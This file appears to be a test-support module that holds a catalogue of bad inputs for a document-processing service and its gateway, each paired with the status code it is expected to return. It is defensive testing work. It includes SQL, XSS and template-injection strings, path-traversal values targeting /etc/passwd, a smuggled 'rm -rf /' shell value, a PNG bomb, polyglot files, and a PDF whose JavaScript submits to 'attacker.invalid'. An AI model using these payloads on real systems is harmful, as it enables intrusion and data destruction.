import { connect } from "node:net";
import type { PhaseServiceName } from "@iris/e2e/support";
import { makeImage, makePngBomb } from "@iris/kit/testing";

/**
 * The bad-input catalogue: requests a client could send by mistake or on purpose, each with
 * the statuses the interface documents for it (spec §7, DESIGN.md §3 and §7). Shared by the
 * fast tests (phase services and the gateway) and the soak, which counts them in its report.
 */
export interface BadInput {
  /** Who it is aimed at. */
  target: PhaseServiceName | "gateway";
  /** What kind of bad input (the report groups by it). */
  kind: BadKind;
  name: string;
  method: "GET" | "POST" | "PUT" | "DELETE";
  path: string;
  headers?: Record<string, string>;
  body?: Uint8Array | string | FormData;
  /** Documented answers; anything else (and every 5xx) is a failure. */
  expect: readonly number[];
  /** Checked after the answer (e.g. nothing was deleted). */
  after?: (base: string, headers: Record<string, string>) => Promise<string | undefined>;
}

export type BadKind =
  | "truncated"
  | "empty"
  | "too_large"
  | "bomb"
  | "pdf_javascript"
  | "pdf_1000_pages"
  | "polyglot"
  | "wrong_content_type"
  | "field_flood"
  | "path_traversal"
  | "oversized_json"
  | "invalid_utf8"
  | "injection"
  | "malformed_json"
  | "malformed_multipart"
  | "compute_bomb"
  | "pdf_huge_page";

/** 10 MiB, the documented MAX_IMAGE_SIZE. */
export const MAX_IMAGE_SIZE = 10 * 1024 * 1024;
/** 32 MiB, the phase services' MAX_JSON_BODY default. */
export const MAX_JSON_BODY = 32 * 1024 * 1024;

export const INJECTIONS = [
  "' OR '1'='1' --",
  "1; DROP TABLE users; --",
  '" UNION SELECT password FROM users --',
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, literally
  "{{7*7}}${7*7}",
];

/** Sample payloads built once (images are encoded with sharp). */
export interface Samples {
  png: Uint8Array;
  jpeg: Uint8Array;
  truncatedPng: Uint8Array;
  truncatedJpeg: Uint8Array;
  tooLarge: Uint8Array;
  bomb: Uint8Array;
  pdfJavascript: Uint8Array;
  pdf1000: Uint8Array;
  /** One page of 14 400 pt square (5 m), and one of 1 000 000 pt. */
  pdfHugePages: [number, Uint8Array][];
}

export async function makeSamples(): Promise<Samples> {
  const png = await makeImage(320, 200, "png");
  const jpeg = await makeImage(320, 200, "jpeg");
  // A real photo-like JPEG would do; a solid one is small, so cut it well inside the scan.
  const tooLarge = new Uint8Array(MAX_IMAGE_SIZE + 1);
  tooLarge.set(jpeg.subarray(0, 3));
  return {
    png,
    jpeg,
    truncatedPng: png.subarray(0, Math.floor(png.length * 0.6)),
    truncatedJpeg: jpeg.subarray(0, Math.floor(jpeg.length * 0.6)),
    tooLarge,
    bomb: await makePngBomb(30_000, 30_000),
    pdfJavascript: makePdf(1, true),
    pdf1000: makePdf(1000, false),
    pdfHugePages: [14_400, 1_000_000].map((side) => [side, makePdf(1, false, [side, side])]),
  };
}

/**
 * A small valid PDF with `pages` pages (each a grey rectangle); `javascript` adds an
 * OpenAction that runs JavaScript in a viewer that allows it (the services must not).
 */
export function makePdf(
  pages: number,
  javascript: boolean,
  [width, height]: [number, number] = [200, 100],
): Uint8Array {
  const objects: string[] = [];
  const pageIds = Array.from({ length: pages }, (_, i) => 5 + i);
  const content = "0.3 g 20 20 160 60 re f";
  objects[1] = `<< /Type /Catalog /Pages 2 0 R${javascript ? " /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >>" : ""} >>`;
  objects[2] = `<< /Type /Pages /Kids [${pageIds.map((id) => `${id} 0 R`).join(" ")}] /Count ${pages} >>`;
  objects[3] = `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
  objects[4] = javascript
    ? "<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://attacker.invalid/'\\);) >>"
    : "<< >>";
  for (const id of pageIds)
    objects[id] =
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${width} ${height}] /Contents 3 0 R >>`;
  let out = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n";
  const offsets: number[] = [];
  for (let id = 1; id < objects.length; id++) {
    offsets[id] = Buffer.byteLength(out, "latin1");
    out += `${id} 0 obj\n${objects[id]}\nendobj\n`;
  }
  const xref = Buffer.byteLength(out, "latin1");
  out += `xref\n0 ${objects.length}\n0000000000 65535 f \n`;
  for (let id = 1; id < objects.length; id++)
    out += `${String(offsets[id]).padStart(10, "0")} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, "latin1");
}

/** A multipart body built by hand (for bytes FormData cannot carry, such as invalid UTF-8). */
export function rawMultipart(
  parts: { name: string; filename?: string; type?: string; data: Uint8Array | string }[],
): { body: Uint8Array; contentType: string } {
  const boundary = `----iris-reliability-${Math.random().toString(16).slice(2)}`;
  const chunks: Buffer[] = [];
  for (const part of parts) {
    let head = `--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"`;
    if (part.filename !== undefined) head += `; filename="${part.filename}"`;
    head += "\r\n";
    if (part.type) head += `Content-Type: ${part.type}\r\n`;
    chunks.push(Buffer.from(`${head}\r\n`, "latin1"));
    chunks.push(typeof part.data === "string" ? Buffer.from(part.data) : Buffer.from(part.data));
    chunks.push(Buffer.from("\r\n"));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return {
    body: Buffer.concat(chunks),
    contentType: `multipart/form-data; boundary=${boundary}`,
  };
}

function form(
  file: { bytes: Uint8Array; name: string; type?: string } | undefined,
  fields: Record<string, string> = {},
  fileField = "file",
): FormData {
  const f = new FormData();
  for (const [k, v] of Object.entries(fields)) f.append(k, v);
  if (file)
    f.append(
      fileField,
      new Blob([new Uint8Array(file.bytes)], { type: file.type ?? "application/octet-stream" }),
      file.name,
    );
  return f;
}

const INVALID_UTF8 = Uint8Array.from([0xc3, 0x28, 0xa0, 0xa1, 0xff, 0xfe, 0xed, 0xa0, 0x80]);

function withInvalidUtf8(before: string, after: string): Uint8Array {
  return Buffer.concat([Buffer.from(before), INVALID_UTF8, Buffer.from(after)]);
}

function json(value: unknown): { headers: Record<string, string>; body: string } {
  return { headers: { "content-type": "application/json" }, body: JSON.stringify(value) };
}

/** The upload route of each phase service and the text fields it reads. */
export const UPLOAD_ROUTES: Record<
  PhaseServiceName,
  { path: string; fields: Record<string, string> }
> = {
  image_processor: { path: "/process", fields: { apply_unwarping: "false" } },
  ml_embeddings: { path: "/embed", fields: {} },
  ml_classifier: { path: "/classify", fields: {} },
  ocr_extractor: { path: "/extract", fields: { document_type: "cedula_identidad" } },
};

/** Text fields of each upload route that take a restricted value (an injection is 400). */
const RESTRICTED_FIELDS: Record<PhaseServiceName, string[]> = {
  image_processor: ["apply_unwarping", "enhance_quality", "target_dpi"],
  ml_embeddings: [],
  ml_classifier: [],
  ocr_extractor: ["document_type", "confidence_threshold"],
};

/** Whether a route renders PDFs (the others refuse them: 415). */
function rendersPdf(target: BadInput["target"], path: string): boolean {
  if (target === "image_processor" || target === "ocr_extractor") return true;
  return target === "gateway" && /^\/(process|image-processor|ocr-extractor)\b/.test(path);
}

/**
 * Upload-route cases for one route (a phase service's, or the gateway's proxy of it).
 * `target` names who answers; `path` and `fields` the route.
 */
export function uploadCases(
  target: BadInput["target"],
  path: string,
  s: Samples,
  fields: Record<string, string> = {},
  restricted: string[] = [],
): BadInput[] {
  const post = (
    kind: BadKind,
    name: string,
    body: FormData | Uint8Array | string,
    expect: number[],
    headers?: Record<string, string>,
  ): BadInput => ({
    target,
    kind,
    name: `${path} ${name}`,
    method: "POST",
    path,
    body,
    expect,
    ...(headers ? { headers } : {}),
  });
  const utf8 = rawMultipart([
    ...Object.entries(fields).map(([name, value]) => ({ name, data: value })),
    { name: "file", filename: "x.png", type: "image/png", data: s.png },
  ]);
  const cases: BadInput[] = [
    post(
      "truncated",
      "truncated PNG",
      form({ bytes: s.truncatedPng, name: "t.png", type: "image/png" }, fields),
      [422],
    ),
    post(
      "truncated",
      "truncated JPEG",
      form({ bytes: s.truncatedJpeg, name: "t.jpg", type: "image/jpeg" }, fields),
      [422],
    ),
    post("empty", "0-byte file", form({ bytes: new Uint8Array(0), name: "e.png" }, fields), [400]),
    post("empty", "no file at all", form(undefined, fields), [400]),
    post(
      "too_large",
      "10 MiB + 1 byte",
      form({ bytes: s.tooLarge, name: "big.jpg", type: "image/jpeg" }, fields),
      [413],
    ),
    post(
      "bomb",
      "30000×30000 PNG bomb",
      form({ bytes: s.bomb, name: "bomb.png", type: "image/png" }, fields),
      [413],
    ),
    // PDFs are accepted (first page only); the JavaScript must not run and the 1000 pages must
    // not be rendered: a prompt 200, or a 4xx if the service refuses such files.
    post(
      "pdf_javascript",
      "PDF with JavaScript OpenAction",
      form({ bytes: s.pdfJavascript, name: "js.pdf", type: "application/pdf" }, fields),
      [200, 415, 422],
    ),
    post(
      "pdf_1000_pages",
      "PDF with 1000 pages",
      form({ bytes: s.pdf1000, name: "long.pdf", type: "application/pdf" }, fields),
      [200, 413, 415, 422],
    ),
    // A page no resolution fits within the pixel limit (issue 25, finding 8): refused with the
    // same 413 wherever PDFs are rendered; 415 where they are not accepted.
    ...s.pdfHugePages.map(([side, bytes]) =>
      post(
        "pdf_huge_page",
        `PDF page of ${side} × ${side} pt`,
        form({ bytes, name: "huge.pdf", type: "application/pdf" }, fields),
        [rendersPdf(target, path) ? 413 : 415],
      ),
    ),
    post(
      "polyglot",
      "HTML named .png sent as image/png",
      form(
        {
          bytes: Buffer.from("<!doctype html><html><script>alert(1)</script></html>"),
          name: "x.png",
          type: "image/png",
        },
        fields,
      ),
      [415],
    ),
    post(
      "polyglot",
      "JPEG magic bytes in front of a ZIP archive",
      form(
        {
          bytes: Buffer.concat([
            Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
            Buffer.from("PK\x03\x04\x14\x00\x00\x00\x08\x00payload.js<script>alert(1)</script>"),
          ]),
          name: "x.jpg",
          type: "image/jpeg",
        },
        fields,
      ),
      [422],
    ),
    post(
      "polyglot",
      "%PDF- header in front of PNG bytes",
      form(
        {
          bytes: Buffer.concat([Buffer.from("%PDF-1.7\n"), s.png]),
          name: "x.pdf",
          type: "application/pdf",
        },
        fields,
      ),
      [415, 422],
    ),
    post(
      "polyglot",
      "valid PNG with an HTML page appended (the image part is valid)",
      form(
        {
          bytes: Buffer.concat([s.png, Buffer.from("<html><script>alert(1)</script></html>")]),
          name: "x.png",
          type: "image/png",
        },
        fields,
      ),
      [200],
    ),
    post("wrong_content_type", "JSON body", JSON.stringify({ file: "aGVsbG8=" }), [400, 415], {
      "content-type": "application/json",
    }),
    post("wrong_content_type", "multipart body labelled text/plain", utf8.body, [400, 415], {
      "content-type": "text/plain",
    }),
    post(
      "wrong_content_type",
      "url-encoded body",
      "file=aGVsbG8%3D&document_type=cedula_identidad",
      [400, 415],
      { "content-type": "application/x-www-form-urlencoded" },
    ),
    post(
      "wrong_content_type",
      "multipart without a boundary",
      '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--x--\r\n',
      [400, 415],
      { "content-type": "multipart/form-data" },
    ),
    post(
      "field_flood",
      "20 000 multipart fields",
      form(
        { bytes: s.png, name: "x.png", type: "image/png" },
        Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`f${i}`, "x"])),
      ),
      [400, 413],
    ),
  ];
  for (const field of restricted) {
    for (const injection of INJECTIONS.slice(0, 4)) {
      cases.push(
        post(
          "injection",
          `${field}=${JSON.stringify(injection)}`,
          form(
            { bytes: s.png, name: "x.png", type: "image/png" },
            {
              ...fields,
              [field]: injection,
            },
          ),
          [400],
        ),
      );
    }
    const bad = rawMultipart([
      ...Object.entries(fields)
        .filter(([k]) => k !== field)
        .map(([name, value]) => ({ name, data: value })),
      { name: field, data: withInvalidUtf8("cedula", "") },
      { name: "file", filename: "x.png", type: "image/png", data: s.png },
    ]);
    cases.push(
      post("invalid_utf8", `${field} with invalid UTF-8`, bad.body, [400], {
        "content-type": bad.contentType,
      }),
    );
  }
  // Injection strings in the file name and in fields the route does not read: harmless.
  for (const injection of INJECTIONS.slice(3, 5)) {
    cases.push(
      post(
        "injection",
        `file name ${JSON.stringify(injection)}`,
        form({ bytes: s.png, name: `${injection}.png`, type: "image/png" }, fields),
        [200],
      ),
    );
  }
  return cases;
}

/** Every phase service's catalogue (upload routes plus each service's JSON routes). */
export function phaseServiceCases(s: Samples): BadInput[] {
  const cases: BadInput[] = [];
  for (const [service, route] of Object.entries(UPLOAD_ROUTES) as [
    PhaseServiceName,
    (typeof UPLOAD_ROUTES)[PhaseServiceName],
  ][]) {
    cases.push(...uploadCases(service, route.path, s, route.fields, RESTRICTED_FIELDS[service]));
  }
  for (const [service, paths] of Object.entries(MULTIPART_ROUTES) as [
    PhaseServiceName,
    string[],
  ][]) {
    for (const path of paths) cases.push(...malformedMultipartCases(service, path));
  }
  cases.push(...jsonCases(s));
  return cases;
}

/** Every route of each phase service that reads a multipart upload. */
export const MULTIPART_ROUTES: Record<PhaseServiceName, string[]> = {
  image_processor: ["/process", "/detect-corners", "/unwarp"],
  ml_embeddings: ["/embed", "/embed_and_cluster", "/find-similar"],
  ml_classifier: ["/classify"],
  ocr_extractor: ["/extract", "/extract-json"],
};

/**
 * Bodies labelled multipart that are not (issue 25, finding 3): cut before the closing
 * boundary, a boundary other than the declared one, random bytes. The client's fault: 400.
 */
export function malformedMultipartCases(target: BadInput["target"], path: string): BadInput[] {
  const head =
    '--XYZ\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n';
  const random = new Uint8Array(4096);
  let state = 25;
  for (let i = 0; i < random.length; i++) {
    state = (state * 1103515245 + 12345) >>> 0;
    random[i] = state >>> 24;
  }
  const bodies: [string, string, Uint8Array | string][] = [
    ["body cut before its closing boundary", "XYZ", `${head}ABCDEF`],
    ["boundary other than the declared one", "ABC", `${head}ABCDEF\r\n--XYZ--\r\n`],
    ["random bytes", "XYZ", random],
  ];
  return bodies.map(([name, boundary, body]) => ({
    target,
    kind: "malformed_multipart",
    name: `${path} ${name}`,
    method: "POST",
    path,
    headers: { "content-type": `multipart/form-data; boundary=${boundary}` },
    body,
    expect: [400],
  }));
}

/**
 * Embeddings whose clustering would take minutes (issue 25, finding 1): 3000 × 64 with
 * max_clusters 1000 is beyond the compute budget, refused up front.
 */
export function clusteringBomb(): string {
  let state = 1;
  const next = () => {
    state = (state * 1103515245 + 12345) >>> 0;
    return Math.round((state / 2 ** 32) * 1e4) / 1e4;
  };
  const embeddings = Array.from({ length: 3000 }, () => Array.from({ length: 64 }, next));
  return JSON.stringify({ embeddings, max_clusters: 1000 });
}

const oversizedJson = (() => {
  let cached: Uint8Array | undefined;
  return () => {
    if (!cached) {
      // `{"embeddings":[[0,0,…]]}` one byte over the limit.
      const head = Buffer.from('{"embeddings":[[');
      const tail = Buffer.from("0]]}");
      const fill = Buffer.alloc(MAX_JSON_BODY + 1 - head.length - tail.length, "0,");
      cached = Buffer.concat([head, fill, tail]);
    }
    return cached;
  };
})();

function jsonCases(_s: Samples): BadInput[] {
  const cases: BadInput[] = [];
  const add = (
    target: PhaseServiceName,
    kind: BadKind,
    name: string,
    method: BadInput["method"],
    path: string,
    req: { headers?: Record<string, string>; body?: Uint8Array | string },
    expect: number[],
    after?: BadInput["after"],
  ) =>
    cases.push({
      target,
      kind,
      name: `${method} ${path} ${name}`,
      method,
      path,
      ...req,
      expect,
      ...(after ? { after } : {}),
    });

  // ml-embeddings
  add(
    "ml_embeddings",
    "oversized_json",
    "32 MiB + 1 byte JSON",
    "POST",
    "/cluster",
    { headers: { "content-type": "application/json" }, body: oversizedJson() },
    [413],
  );
  add(
    "ml_embeddings",
    "compute_bomb",
    "3000 × 64 embeddings with max_clusters 1000",
    "POST",
    "/cluster",
    { headers: { "content-type": "application/json" }, body: clusteringBomb() },
    [413],
  );
  add(
    "ml_embeddings",
    "malformed_json",
    "truncated JSON",
    "POST",
    "/cluster",
    { headers: { "content-type": "application/json" }, body: '{"embeddings": [[1,2],[3' },
    [400],
  );
  add(
    "ml_embeddings",
    "invalid_utf8",
    "invalid UTF-8 in a JSON string",
    "POST",
    "/cluster",
    {
      headers: { "content-type": "application/json" },
      body: withInvalidUtf8('{"embeddings":[[1,0],[0,1],[1,1]],"image_paths":["a', '","b","c"]}'),
    },
    [400],
  );
  add(
    "ml_embeddings",
    "wrong_content_type",
    "JSON labelled text/plain",
    "POST",
    "/cluster",
    { headers: { "content-type": "text/plain" }, body: '{"embeddings":[[1,0],[0,1]]}' },
    [400, 415],
  );
  for (const model of ["../../../../etc/passwd", "..%2F..%2Fmanifest", "/etc/shadow"])
    add(
      "ml_embeddings",
      "path_traversal",
      `model_name ${model}`,
      "POST",
      "/switch_model",
      json({ model_name: model }),
      [400, 404],
    );
  for (const injection of INJECTIONS.slice(0, 4)) {
    add(
      "ml_embeddings",
      "injection",
      `model_name ${JSON.stringify(injection)}`,
      "POST",
      "/switch_model",
      json({ model_name: injection }),
      [400, 404],
    );
    add(
      "ml_embeddings",
      "injection",
      `image_paths ${JSON.stringify(injection)}`,
      "POST",
      "/cluster",
      json({
        embeddings: [
          [1, 0],
          [0, 1],
          [1, 0.1],
          [0.1, 1],
        ],
        image_paths: ["a", "b", "c", injection],
      }),
      [200],
    );
  }
  add(
    "ml_embeddings",
    "injection",
    "filters with injection strings",
    "POST",
    "/find-similar",
    json({ embedding: [1, 0, 0], top_k: 3, filters: { document_type: INJECTIONS[0] } }),
    [200, 400],
  );

  // ml-classifier
  for (const dataset of [
    "../../../../etc",
    "/etc",
    "datasets/../../..",
    "..\\..\\windows",
    "%2e%2e%2f%2e%2e%2fetc",
    "ok/\u0000/../../etc",
  ])
    add(
      "ml_classifier",
      "path_traversal",
      `dataset_path ${JSON.stringify(dataset)}`,
      "POST",
      "/train",
      json({ dataset_path: dataset, config: { epochs: 1, batch_size: 4 } }),
      [400, 404],
    );
  for (const id of [
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%2e%2e%2fmanifest.json",
    "....%2F%2Fpackage.json",
  ]) {
    add(
      "ml_classifier",
      "path_traversal",
      `model id ${id}`,
      "GET",
      `/models/${id}`,
      {},
      [400, 404],
    );
    add(
      "ml_classifier",
      "path_traversal",
      `model id ${id}`,
      "DELETE",
      `/models/${id}`,
      {},
      [400, 403, 404, 409],
      async (base, headers) => {
        const res = await fetch(`${base}/models`, { headers });
        const body = (await res.json()) as { data?: { models?: unknown[] } };
        return (body.data?.models?.length ?? 0) > 0
          ? undefined
          : "the model list is empty after it";
      },
    );
  }
  add(
    "ml_classifier",
    "oversized_json",
    "32 MiB + 1 byte JSON",
    "POST",
    "/train",
    { headers: { "content-type": "application/json" }, body: oversizedJson() },
    [413],
  );
  add(
    "ml_classifier",
    "invalid_utf8",
    "invalid UTF-8 in dataset_path",
    "POST",
    "/train",
    {
      headers: { "content-type": "application/json" },
      body: withInvalidUtf8('{"dataset_path":"corpus', '","config":{"epochs":1}}'),
    },
    [400, 404],
  );
  for (const injection of INJECTIONS.slice(0, 4))
    add(
      "ml_classifier",
      "injection",
      `dataset_path ${JSON.stringify(injection)}`,
      "POST",
      "/train",
      json({ dataset_path: injection, config: { epochs: 1 } }),
      [400, 404],
    );

  // ocr-extractor
  for (const injection of INJECTIONS) {
    add(
      "ocr_extractor",
      "injection",
      `text ${JSON.stringify(injection)}`,
      "POST",
      "/extract-text",
      json({ text: `NOMBRE: ${injection}\nCEDULA: 12.345.678`, document_type: "cedula_identidad" }),
      [200],
    );
    add(
      "ocr_extractor",
      "injection",
      `document_type ${JSON.stringify(injection)}`,
      "POST",
      "/configure-ocr",
      json({ document_type: injection, config: { psm: 6 } }),
      [400, 404],
    );
  }
  add(
    "ocr_extractor",
    "path_traversal",
    "document_type ../../etc/passwd",
    "POST",
    "/configure-ocr",
    json({ document_type: "../../etc/passwd", config: { lang: "spa" } }),
    [400, 404],
  );
  add(
    "ocr_extractor",
    "injection",
    "lang with a shell/path payload",
    "POST",
    "/configure-ocr",
    json({ document_type: "cedula_identidad", config: { lang: "spa; rm -rf / #../../x" } }),
    [400],
  );
  add(
    "ocr_extractor",
    "invalid_utf8",
    "invalid UTF-8 in text",
    "POST",
    "/extract-text",
    {
      headers: { "content-type": "application/json" },
      body: withInvalidUtf8('{"text":"NOMBRE: ', '","document_type":"cedula_identidad"}'),
    },
    [400],
  );
  add(
    "ocr_extractor",
    "oversized_json",
    "32 MiB + 1 byte JSON",
    "POST",
    "/extract-text",
    { headers: { "content-type": "application/json" }, body: oversizedJson() },
    [413],
  );
  return cases;
}

/**
 * Cases that currently get an undocumented answer, by `<target>: <case name>`, with what happens. The fast
 * tests mark them `it.fails` (they fail once fixed, so the entry is removed); the soak counts
 * them separately.
 */
export const KNOWN_BUGS: Record<string, string> = {};

/** The known-bug note of a case (keys are `<target>: <name>`), if any. */
export function knownBug(c: { target: string; name: string }): string | undefined {
  return KNOWN_BUGS[`${c.target}: ${c.name}`];
}

/** What one bad input got. */
export interface BadInputResult {
  name: string;
  target: string;
  kind: BadKind;
  status: number;
  code: string | undefined;
  /** Why it failed; undefined when it got a documented answer. */
  problem: string | undefined;
  ms: number;
}

/** Sends one case and judges the answer (status, JSON error body, the `after` check). */
export async function sendBadInput(
  base: string,
  c: BadInput,
  headers: Record<string, string> = {},
): Promise<BadInputResult> {
  const started = performance.now();
  let status = 0;
  let code: string | undefined;
  let problem: string | undefined;
  try {
    const res = await fetch(`${base}${c.path}`, {
      method: c.method,
      headers: { ...headers, ...c.headers },
      ...(c.body !== undefined ? { body: c.body as BodyInit } : {}),
      signal: AbortSignal.timeout(60_000),
    });
    status = res.status;
    const text = await res.text();
    const type = res.headers.get("content-type") ?? "";
    if (status >= 400) {
      try {
        const body = JSON.parse(text) as { success?: boolean; error?: { code?: string } };
        code = body.error?.code;
        if (body.success !== false || typeof code !== "string")
          problem = `error body is not the §7.2 form: ${text.slice(0, 200)}`;
      } catch {
        problem = `error body is not JSON (${type}): ${text.slice(0, 200)}`;
      }
    } else if (!type.includes("application/json")) {
      problem = `answered ${type} instead of JSON`;
    }
    if (!c.expect.includes(status))
      problem = `expected ${c.expect.join("|")}, got ${status} ${code ?? ""}: ${text.slice(0, 300)}`;
    if (!problem && c.after) problem = await c.after(base, headers);
  } catch (error) {
    problem = `no answer: ${(error as Error).message}`;
    // A server may answer 413 and close before a large body is fully sent; fetch then reports
    // only the broken pipe. Read the answer the way curl does: keep listening after the write fails.
    const size = typeof c.body === "string" ? c.body.length : (c.body as Uint8Array)?.length;
    if (typeof size === "number" && size > 1024 * 1024) {
      const raw = await rawSend(
        `${base}${c.path}`,
        c.method,
        { ...headers, ...c.headers },
        c.body as Uint8Array,
      );
      if (raw) {
        status = raw.status;
        try {
          code = (JSON.parse(raw.body) as { error?: { code?: string } }).error?.code;
          problem = c.expect.includes(status)
            ? undefined
            : `expected ${c.expect.join("|")}, got ${status} ${code ?? ""}`;
        } catch {
          problem = `error body is not JSON: ${raw.body.slice(0, 200)}`;
        }
      }
    }
  }
  return {
    name: c.name,
    target: c.target,
    kind: c.kind,
    status,
    code,
    problem,
    ms: Math.round(performance.now() - started),
  };
}

/** The gateway's catalogue: its proxies of the upload routes, set B's JSON routes, auth, admin. */
export function gatewayCases(s: Samples): BadInput[] {
  const cases: BadInput[] = [
    ...uploadCases("gateway", "/ml-classifier/classify", s),
    ...uploadCases("gateway", "/ml-embeddings/embed", s).filter((c) =>
      ["too_large", "bomb", "polyglot", "truncated"].includes(c.kind),
    ),
    ...uploadCases("gateway", "/ocr-extractor/extract", s, { document_type: "cedula_identidad" }, [
      "document_type",
    ]).filter((c) => c.kind !== "pdf_javascript" && c.kind !== "pdf_1000_pages"),
    // The full pipeline: only what is refused before any phase runs.
    ...uploadCases("gateway", "/process", s, { document_type: "cedula_identidad" }, [
      "document_type",
      "ocr_confidence",
      "apply_unwarping",
    ]).filter((c) => !c.expect.includes(200)),
  ];
  const add = (
    kind: BadKind,
    name: string,
    method: BadInput["method"],
    path: string,
    req: { headers?: Record<string, string>; body?: Uint8Array | string },
    expect: number[],
  ) =>
    cases.push({
      target: "gateway",
      kind,
      name: `${method} ${path} ${name}`,
      method,
      path,
      ...req,
      expect,
    });
  for (const dataset of ["../../../../etc", "/etc/passwd", "a/../../b", "..\\..\\x"])
    add(
      "path_traversal",
      `dataset_path ${JSON.stringify(dataset)}`,
      "POST",
      "/phase3/train",
      json({ dataset_path: dataset, model_config: { epochs: 1, batch_size: 4 } }),
      [400],
    );
  for (const id of ["..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fwrangler.toml"])
    add("path_traversal", `model id ${id}`, "DELETE", `/admin/models/${id}`, {}, [400, 404]);
  add(
    "oversized_json",
    "32 MiB + 1 byte JSON",
    "POST",
    "/phase2/cluster",
    { headers: { "content-type": "application/json" }, body: oversizedJson() },
    [413],
  );
  add(
    "malformed_json",
    "truncated JSON",
    "POST",
    "/phase2/cluster",
    { headers: { "content-type": "application/json" }, body: '{"embeddings":[[1,2],[3' },
    [400],
  );
  add(
    "invalid_utf8",
    "invalid UTF-8 in a JSON string",
    "POST",
    "/phase4/extract",
    {
      headers: { "content-type": "application/json" },
      body: withInvalidUtf8('{"text":"NOMBRE: ', '","document_type":"cedula_identidad"}'),
    },
    [400],
  );
  add(
    "invalid_utf8",
    "invalid UTF-8 in the email",
    "POST",
    "/api/v1/auth/register",
    {
      headers: { "content-type": "application/json" },
      body: withInvalidUtf8('{"email":"a', '@example.com","password":"Passw0rd-long-1"}'),
    },
    [400],
  );
  add(
    "oversized_json",
    "1 MiB login body",
    "POST",
    "/api/v1/auth/login",
    json({ email: "a@example.com", password: "x".repeat(1024 * 1024) }),
    [400, 401, 413],
  );
  add(
    "wrong_content_type",
    "JSON labelled text/plain",
    "POST",
    "/api/v1/auth/login",
    {
      headers: { "content-type": "text/plain" },
      body: JSON.stringify({ email: "a@example.com", password: "Passw0rd-long-1" }),
    },
    [400, 415],
  );
  add(
    "wrong_content_type",
    "multipart where JSON is expected",
    "POST",
    "/phase2/cluster",
    (() => {
      const m = rawMultipart([{ name: "embeddings", data: "[[1,2]]" }]);
      return { headers: { "content-type": m.contentType }, body: m.body };
    })(),
    [400, 415],
  );
  for (const injection of INJECTIONS) {
    add(
      "injection",
      `email ${JSON.stringify(injection)}`,
      "POST",
      "/api/v1/auth/register",
      json({ email: injection, password: "Passw0rd-long-1" }),
      [400],
    );
    add(
      "injection",
      `login email ${JSON.stringify(injection)}`,
      "POST",
      "/api/v1/auth/login",
      json({ email: `${injection}@example.com`, password: injection }),
      [400, 401],
    );
    add(
      "injection",
      `text ${JSON.stringify(injection)}`,
      "POST",
      "/phase4/extract",
      json({ text: `NOMBRE: ${injection}`, document_type: "cedula_identidad" }),
      [200],
    );
    add(
      "injection",
      `document_type ${JSON.stringify(injection)}`,
      "POST",
      "/phase4/extract",
      json({ text: "NOMBRE: ANA", document_type: injection }),
      [400],
    );
    add(
      "injection",
      `pipeline id ${JSON.stringify(injection)}`,
      "GET",
      `/pipeline/status/${encodeURIComponent(injection)}`,
      {},
      [400, 404],
    );
    add(
      "injection",
      `status query ${JSON.stringify(injection)}`,
      "GET",
      `/api/v1/pipeline/status?pipeline_id=${encodeURIComponent(injection)}`,
      {},
      [400, 404],
    );
    add(
      "injection",
      `history sort ${JSON.stringify(injection)}`,
      "GET",
      `/api/v1/pipeline/history?sort=${encodeURIComponent(injection)}&order=${encodeURIComponent(injection)}`,
      {},
      [400],
    );
    add(
      "injection",
      `config strategy ${JSON.stringify(injection)}`,
      "PUT",
      "/admin/config",
      json({ services: { ml_classifier: { strategy: injection } } }),
      [400],
    );
  }
  add(
    "malformed_json",
    "base64 that is not base64",
    "POST",
    "/phase1/process",
    json({ file: "this is <not> base64!!", options: { enhance: true, unwarp: false } }),
    [400, 415],
  );
  return cases;
}

/**
 * One HTTP/1.1 request over a bare socket that keeps reading after a failed write, as curl
 * does: a server may answer 413 and close while a large body is still being sent.
 */
function rawSend(
  url: string,
  method: string,
  headers: Record<string, string>,
  body: Uint8Array | string,
): Promise<{ status: number; body: string } | undefined> {
  return new Promise((resolve) => {
    const target = new URL(url);
    const bytes = typeof body === "string" ? Buffer.from(body) : Buffer.from(body);
    const head = [
      `${method} ${target.pathname}${target.search} HTTP/1.1`,
      `Host: ${target.host}`,
      `Content-Length: ${bytes.length}`,
      "Connection: close",
      ...Object.entries(headers).map(([k, v]) => `${k}: ${v}`),
      "",
      "",
    ].join("\r\n");
    const chunks: Buffer[] = [];
    const socket = connect(Number(target.port), target.hostname, () => {
      socket.write(head);
      socket.write(bytes);
    });
    socket.on("data", (chunk: Buffer) => chunks.push(chunk));
    socket.on("error", () => {});
    socket.setTimeout(30_000, () => socket.destroy());
    socket.on("close", () => {
      const text = Buffer.concat(chunks).toString("utf8");
      const match = /^HTTP\/1\.[01] (\d{3})/.exec(text);
      if (!match) return resolve(undefined);
      const start = text.indexOf("\r\n\r\n");
      let rest = start >= 0 ? text.slice(start + 4) : "";
      // A chunked body: keep the first chunk's payload (error bodies are small).
      if (/transfer-encoding: chunked/i.test(text.slice(0, start))) {
        const nl = rest.indexOf("\r\n");
        const size = Number.parseInt(rest.slice(0, nl), 16);
        rest = rest.slice(nl + 2, nl + 2 + size);
      }
      resolve({ status: Number(match[1]), body: rest });
    });
  });
}
